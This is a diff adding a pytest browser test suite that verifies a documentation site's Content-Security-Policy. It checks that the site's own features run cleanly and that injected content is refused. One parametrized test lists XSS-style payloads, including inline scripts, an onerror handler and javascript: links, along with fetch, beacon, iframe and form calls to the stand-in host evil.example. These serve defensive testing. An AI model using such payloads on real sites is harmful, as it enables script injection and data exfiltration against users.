@@ -1,0 +1,115 @@
+"""The Content-Security-Policy in a real browser: everything of the site works under it, nothing else does."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from archpublish import policy
+
+pytestmark = pytest.mark.browser
+
+_LISTEN = """window.refused = []; document.addEventListener('securitypolicyviolation',
+    (event) => window.refused.push(`${event.violatedDirective}: ${event.blockedURI}`))"""
+
+
+@pytest.fixture(scope="module")
+def tab(browser: Any) -> Iterator[Any]:
+    context = browser.new_context(viewport={"width": 1280, "height": 900})
+    context.add_init_script(_LISTEN)
+    yield context.new_page()
+    context.close()
+
+
+def test_search_lives_under_the_policy(tab: Any, site_address: str) -> None:
+    tab.goto(site_address)
+    tab.wait_for_timeout(300)
+    tab.keyboard.press("/")
+    tab.keyboard.type("GQA")
+    tab.wait_for_selector(".md-search-result__link", timeout=20_000)
+
+    assert tab.evaluate("window.refused") == []
+
+
+def test_explorables_live_under_the_policy(tab: Any, site_address: str) -> None:
+    docs = Path(__file__).resolve().parents[2] / "docs"
+    pages = [path for path in docs.rglob("architectures/**/*.md") if "/// explorable" in path.read_text("utf-8")]
+    assert len(pages) > 5
+    for path in pages:
+        address = path.relative_to(docs).with_suffix("").as_posix() + "/"
+        assert tab.goto(site_address + address.removesuffix("index/")).status == 200
+        place = tab.locator("[data-explorable]").first
+        place.scroll_into_view_if_needed()
+        place.locator("input, select, button").first.wait_for(timeout=20_000)
+        for control in place.locator("input[type=range]").all()[:2]:
+            control.focus()
+            tab.keyboard.press("ArrowRight")
+
+        assert tab.evaluate("window.refused") == [], path
+
+
+def test_the_palette_and_the_calculators_live_under_the_policy(tab: Any, site_address: str) -> None:
+    tab.goto(site_address + "tools/calculators/")
+    tab.locator(".md-header__option label:visible").click()
+    tab.locator("[data-explorable] select").first.wait_for(timeout=20_000)
+
+    assert tab.evaluate("window.refused") == []
+
+
+@pytest.mark.parametrize(
+    ("attempt", "directive"),
+    [
+        ("document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 1'}))", "script-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')", "script-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<a id=l href=\"javascript:window.ran = 1\">x</a>'); l.click()", "script-src"),
+        ("document.body.append(Object.assign(document.createElement('script'), {src: 'https://evil.example/x.js'}))", "script-src"),
+        ("fetch('https://evil.example/').catch(() => 0)", "connect-src"),
+        ("navigator.sendBeacon('https://evil.example/', 'x')", "connect-src"),
+        ("document.body.append(Object.assign(new Image(), {src: 'https://evil.example/x.png'}))", "img-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<style>@import url(https://evil.example/x.css)</style>')", "style-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<p style=\"background:url(https://evil.example/x)\">x</p>')", "img-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<iframe src=\"https://evil.example/\"></iframe>')", "frame-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<object data=\"x.swf\"></object>')", "object-src"),
+        ("document.head.insertAdjacentHTML('beforeend', '<base href=\"https://evil.example/\">')", "base-uri"),
+        ("new Worker(URL.createObjectURL(new Blob(['1'])))", "worker-src"),
+        ("document.body.insertAdjacentHTML('beforeend', '<form id=f action=\"https://evil.example/\"></form>'); f.submit()", "form-action"),
+        ("try { setTimeout('window.ran = 1', 0) } catch (error) { }", "script-src"),
+    ],
+)  # fmt: skip
+def test_what_is_not_of_the_site_does_not_run(tab: Any, site_address: str, attempt: str, directive: str) -> None:
+    tab.goto(site_address + "architectures/")
+    # As the page itself would do it: what a test evaluates from outside is under no policy.
+    tab.evaluate(f"() => {{ try {{ {attempt} }} catch (error) {{ }} }}")
+    tab.wait_for_function("window.refused.length > 0", timeout=5_000)
+
+    assert any(refused.startswith(directive) for refused in tab.evaluate("window.refused"))
+    assert tab.evaluate("window.ran") is None
+
+
+def test_the_site_has_its_headers(built_site: Path) -> None:
+    lines = (built_site / "_headers").read_text("utf-8").splitlines()
+
+    assert lines[0] == "/*"
+    assert any("frame-ancestors 'none'" in line and "'unsafe-eval'" not in line for line in lines)
+    hashes = set(lines[1].split("script-src ")[1].split(";")[0].split())
+    for page in ("index.html", "404.html", "architectures/recurrent/retnet/index.html"):
+        html = (built_site / page).read_text("utf-8")
+        assert set(html.split("script-src ")[1].split(";")[0].split()) <= hashes
+
+
+def test_the_themes_own_files_have_their_hashes(built_site: Path) -> None:
+    html = (built_site / "architectures/index.html").read_text("utf-8")
+
+    assert html.count(' integrity="sha384-') == 3
+
+
+def test_an_unknown_script_is_refused() -> None:
+    with pytest.raises(policy.UnknownScriptError, match=r"not known: alert\(1\)"):
+        policy.with_policy("<html><head></head><body><script>alert(1)</script></body></html>")
+
+
+@pytest.mark.parametrize("kind", ["application/json", "application/ld+json", "text/template"])
+def test_data_are_no_scripts(kind: str) -> None:
+    assert policy.scripts(f'<script type="{kind}">{{"a": 1}}</script>') == []
